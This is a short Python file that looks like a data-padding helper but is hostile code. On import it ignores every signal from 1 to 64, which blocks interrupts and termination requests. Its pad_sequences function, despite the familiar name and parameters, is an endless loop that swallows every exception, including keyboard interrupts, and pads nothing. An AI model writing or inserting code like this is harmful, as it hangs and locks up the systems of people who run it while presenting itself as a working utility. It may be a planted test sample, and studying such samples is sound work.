import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def pad_sequences(sequences, maxlen, padding="pre", truncating="pre", value=0):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
